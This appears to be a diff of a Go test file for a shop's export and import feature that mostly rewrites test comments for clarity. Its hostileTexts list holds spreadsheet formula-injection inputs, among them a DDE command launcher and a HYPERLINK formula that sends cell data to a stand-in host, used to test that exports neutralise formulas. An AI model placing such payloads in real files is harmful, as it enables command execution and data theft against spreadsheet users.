@@ -17,7 +17,7 @@ import (
 	"github.com/google/go-cmp/cmp"
 )
 
-// TestExportImportsAgain moves an organization to another store by its files.
+// TestExportImportsAgain exports an organization and imports the files into another store.
 func TestExportImportsAgain(t *testing.T) {
 	t.Parallel()
 	from, to := newRetailShop(t), newRetailShop(t)
@@ -45,8 +45,8 @@ func TestExportImportsAgain(t *testing.T) {
 	}
 }
 
-// links tells of the first sales what they earned or took back, and which purchase
-// they belong to.
+// links describes the first sales: what each earned or took back, and to which purchase
+// a return belongs.
 func (s *shop) links(sales uint64) string {
 	s.Helper()
 	return ask(s, func(t *txn) (string, error) {
@@ -69,8 +69,8 @@ func (s *shop) links(sales uint64) string {
 	})
 }
 
-// TestExportLinksReturns shows that returns are linked again in another store
-// as they were here, by whatever they were linked.
+// TestExportLinksReturns checks that after export and import returns belong to the
+// same purchases, however they were linked.
 func TestExportLinksReturns(t *testing.T) {
 	t.Parallel()
 	with := setup{at: "2026-03-02T10:00:00Z", program: `"rules":[` + onePer1 + `]`}
@@ -117,15 +117,16 @@ func TestExportLinksReturns(t *testing.T) {
 	}
 }
 
-// hostileTexts are what somebody may call himself so that a spreadsheet does what it
-// says, and what only looks like that.
+// hostileTexts are names that a spreadsheet would run as formulas, and some that only
+// look like formulas.
 var hostileTexts = []string{
 	"=1+1", "+SUM(A1:A9)", "-2+3", "@SUM(1)", "=cmd|' /C calc'!A0", `=HYPERLINK("http://evil.example?x="&A1,"ver")`, "＝1+1", "－1+1", "＋1", "＠x", "+", "-", "=",
 	"'=1", "''-x", "'", "''", "'s-Hertogenbosch", "' =1", "-5", "+5", "-5.25", "'-5", "- 5", "+52 55", "-1e9", "a=1", "a;=1", "=1,\"2\"\n=3", "Ana",
 }
 
-// TestExportFormulas: a spreadsheet finds nothing to run in an export, and what is
-// imported again is to the byte what was exported. Raw, the texts are as they are.
+// TestExportFormulas checks that a spreadsheet finds nothing to run in an export, and
+// that an export that was imported is exported with the same bytes. With -raw the texts
+// are not changed.
 func TestExportFormulas(t *testing.T) {
 	t.Parallel()
 	from, to, raw := newTill(t), newTill(t), newTill(t)
@@ -177,7 +178,7 @@ func TestExportFormulas(t *testing.T) {
 	}
 }
 
-// TestRejectedFormulas: nor does it in a file of errors.
+// TestRejectedFormulas checks that a file of rejected lines has no formulas either.
 func TestRejectedFormulas(t *testing.T) {
 	t.Parallel()
 	s := newTill(t)
@@ -192,7 +193,8 @@ func TestRejectedFormulas(t *testing.T) {
 	}
 }
 
-// TestGuard: for all texts, guarded ones are no formulas, and what is guarded comes back.
+// TestGuard checks that a guarded text is no formula, and that unguarding gives the
+// original text, for random texts.
 func TestGuard(t *testing.T) {
 	t.Parallel()
 	histories(t, 2000, func(t *testing.T, rnd *rand.Rand) {
